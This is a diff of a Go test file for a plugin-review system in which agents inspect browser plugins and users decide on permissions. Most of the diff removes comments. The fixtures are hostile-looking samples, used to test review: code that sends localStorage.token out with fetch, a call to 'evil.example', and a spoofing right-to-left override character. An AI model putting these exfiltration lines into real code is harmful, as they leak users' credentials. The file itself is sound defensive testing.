@@ -16,7 +16,6 @@ import (
 	"opentabs/wire"
 )
 
-// testPolicy is a policy with plugins that a test can change.
 type testPolicy struct {
 	t      *testing.T
 	dir    string
@@ -34,7 +33,6 @@ func newTestPolicy(t *testing.T, packages ...plugintest.Package) *testPolicy {
 
 func (w *testPolicy) Set() *plugin.Set { return w.set }
 
-// load replaces all plugins of the test with the given packages.
 func (w *testPolicy) load(packages ...plugintest.Package) {
 	w.t.Helper()
 	var plugins []*plugin.Plugin
@@ -59,15 +57,12 @@ func (w *testPolicy) inspect(name string) (*inspection.Inspection, error) {
 	return inspection.Inspect(w.policy, w.set, settings.New(w.dir, settings.Options{}), name)
 }
 
-// twoToolPackage returns a package with the tools read and send.
 func twoToolPackage(name, code string) plugintest.Package {
 	return plugintest.Package{Name: name, Code: code, Tools: []plugintest.Tool{
 		{Name: "read", Description: "Reads."}, {Name: "send", Description: "Sends."},
 	}}
 }
 
-// bundledAdapter returns an adapter as esbuild writes it: the author's code between two
-// libraries.
 func bundledAdapter(own string, libraryLines int) string {
 	return "\"use strict\";\n(() => {\n" +
 		"  // node_modules/zod/v4/core/core.js\n" + strings.Repeat("  var zod = new Function('return 1');\n", libraryLines) +
@@ -82,8 +77,6 @@ func mailPackage(own string) plugintest.Package {
 	return p
 }
 
-// When an agent inspects a plugin, the agent gets the author's code in short pages,
-// without the much larger libraries.
 func TestInspectionIsReadable(t *testing.T) {
 	w := newTestPolicy(t, mailPackage("  var send = () => fetch('/send', { body: localStorage.token });\n"))
 	inspected, err := w.inspect("mail")
@@ -126,8 +119,6 @@ func TestInspectionIsReadable(t *testing.T) {
 	}
 }
 
-// If the author's code changed, the changes since the last review are shown as a diff.
-// For changed libraries, the diff shows only their hashes.
 func TestChangesSinceReview(t *testing.T) {
 	const oldCode, now = "  var send = () => 1;\n", "  var send = () => fetch('https://evil.example');\n"
 	w := newTestPolicy(t, mailPackage(oldCode))
@@ -170,8 +161,7 @@ func TestChangesSinceReview(t *testing.T) {
 	}
 }
 
-// Of a large file of a reviewed plugin, opentabs stores only the beginning. A change after
-// the stored beginning of a file still appears among the changes since the last review.
+// Of a large file of a reviewed plugin, opentabs stores only the beginning.
 func TestChangeBeyondStoredPart(t *testing.T) {
 	padding := "  /*" + strings.Repeat("x", 4<<20) + "*/\n"
 	w := newTestPolicy(t, mailPackage(padding+"  var send = () => 1;\n"))
@@ -184,7 +174,6 @@ func TestChangeBeyondStoredPart(t *testing.T) {
 	}
 }
 
-// A review token is valid once, for one content of one plugin, for 10 minutes.
 func TestReviewTokens(t *testing.T) {
 	w := newTestPolicy(t, mailPackage("  var a;\n"), twoToolPackage("chat", ""))
 	inspect := func(name string) *inspection.Inspection {
@@ -234,12 +223,10 @@ func TestReviewTokens(t *testing.T) {
 
 func errorOf[T any](_ T, err error) error { return err }
 
-// An agent's recommendation does not enable the plugin. A recommendation applies only to the
-// inspected content, and ends when the user decides about the plugin.
 func TestRecommendationChangesNothing(t *testing.T) {
 	w := newTestPolicy(t, mailPackage("  var a;\n"))
 	mailPlugin, _ := w.Set().Plugin("mail")
-	w.review("mail", wire.PermissionOff) // the user turns the plugin mail off
+	w.review("mail", wire.PermissionOff)
 	if err := w.policy.Recommend("mail", mailPlugin.ContentHash(), "auto", " reads\nonly\u202e "+strings.Repeat("x", 2000), "claude"); err != nil {
 		t.Fatal(err)
 	}
@@ -273,7 +260,6 @@ func TestRecommendationChangesNothing(t *testing.T) {
 	}
 }
 
-// Tools are listed under their categories; tools without a category come last.
 func TestInspectionGroupsTools(t *testing.T) {
 	p := twoToolPackage("mail", bundledAdapter("", 1))
 	p.Tools = []plugintest.Tool{
@@ -306,8 +292,6 @@ func TestInspectionGroupsTools(t *testing.T) {
 	}
 }
 
-// TestReviewText checks that ReviewText always contains the changes, but contains the
-// code only if withCode is true.
 func TestReviewText(t *testing.T) {
 	long := strings.Repeat("const line = 1;\n", 10_000)
 	w := newTestPolicy(t, twoToolPackage("a", "first();\n"))
